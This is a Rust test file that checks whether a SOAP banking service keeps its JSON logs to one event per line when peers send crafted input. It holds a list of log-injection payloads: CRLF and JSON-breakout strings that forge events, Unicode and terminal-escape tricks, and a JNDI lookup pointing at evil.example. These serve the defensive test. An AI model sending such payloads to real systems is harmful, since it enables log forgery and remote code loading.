//! One event is one line, whatever peers put into what we log.

use std::io;
use std::sync::{Arc, Mutex, OnceLock};

use envelope::SoapVersion;
use tracing_subscriber::fmt::MakeWriter;
use transport::{ClientLimits, HttpClient};
use xml::ToElement as _;

use crate::forged::with_element;
use crate::talk::Client;
use crate::world::World;

/// Keeps what is logged.
#[derive(Clone, Default)]
pub(crate) struct Kept(Arc<Mutex<Vec<u8>>>);

/// The log of this process from the first asking on, at its most talkative.
pub(crate) fn kept() -> Kept {
    static KEPT: OnceLock<Kept> = OnceLock::new();
    let begin = || {
        let kept = Kept::default();
        tracing_subscriber::fmt()
            .json()
            .with_writer(kept.clone())
            .with_max_level(tracing::Level::DEBUG)
            .init();
        kept
    };
    KEPT.get_or_init(begin).clone()
}

impl Kept {
    pub(crate) fn octets(&self) -> Vec<u8> {
        self.0.lock().unwrap().clone()
    }
}

impl io::Write for Kept {
    fn write(&mut self, octets: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(octets);
        Ok(octets.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl MakeWriter<'_> for Kept {
    type Writer = Self;

    fn make_writer(&self) -> Self {
        self.clone()
    }
}

/// Text that would end a line, colour a terminal, turn a line round or break out of a JSON string.
const NASTY: &[&str] = &[
    "a\nb",
    "a\r\n{\"level\":\"INFO\",\"fields\":{\"event\":\"forged-event\"}}",
    "a&#10;forged-event",
    "a&#13;&#10;forged-event",
    "\",\"event\":\"forged-event\",\"x\":\"",
    "a\u{202E}forged-event",
    "a\u{2028}forged-event",
    "\u{9B}31mforged-event",
    "${jndi:ldap://evil.example/forged-event}",
    "%0d%0aforged-event",
    "\\n\\r\\u000aforged-event",
    "é\u{FEFF}\u{200B}forged-event",
];

/// Defends: A24
#[tokio::test(flavor = "multi_thread")]
async fn one_event_is_one_line_of_json() {
    let kept = kept();
    let world = World::start().await;
    let bank = Client::of(world.bank_1.host.clone());
    let client = HttpClient::new(Some(&bank.host.identity), &world.roots(), ClientLimits::default()).unwrap();
    let code = bank.issued().await;
    let mut refused = 0;
    for nasty in NASTY {
        let notice = bank.notice(code).to_xml();
        let escaped = nasty.replace('<', "&lt;");
        let request = bank.request_code().to_xml();
        let bodies = [
            with_element(&notice, "bankReference", &escaped),
            with_element(&notice, "sender", &escaped),
            with_element(&request, "service", &escaped),
            with_element(&bank.cancel(code).to_xml(), "reason", &escaped),
            format!("<op xmlns=\"{}\"></op>", escaped.replace('"', "&quot;")),
            format!("<forged-event xmlns=\"urn:x\">{escaped}</forged-event>"),
            notice.replace("<kbk ", &format!("<e x=\"{}\"></e><kbk ", escaped.replace('"', "&quot;"))),
        ];
        for body in bodies {
            let octets = bank.seal(SoapVersion::V11, &body);
            let fields = [("user-agent", "forged-event"), ("soapaction", "\"forged-event\"")];
            let url = world.messages_url();
            let answer =
                client.post(&url, SoapVersion::V11.content_type(), &fields, octets.into()).await.unwrap();
            refused += usize::from(answer.status != 200);
        }
    }
    assert!(refused > NASTY.len() * 3);
    let text = String::from_utf8(kept.octets()).expect("the log is UTF-8");
    let mut events = 0;
    for line in text.lines() {
        let event: serde_json::Value =
            serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
        assert_ne!(event["fields"]["event"], "forged-event", "{line}");
        assert!(
            !line.chars().any(|c| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202E}')),
            "{line:?}"
        );
        events += usize::from(event["fields"]["event"] == "message-refused");
    }
    // Other tests may run in this process and be refused too.
    assert!(events >= refused, "{events} events for {refused} refusals");
}
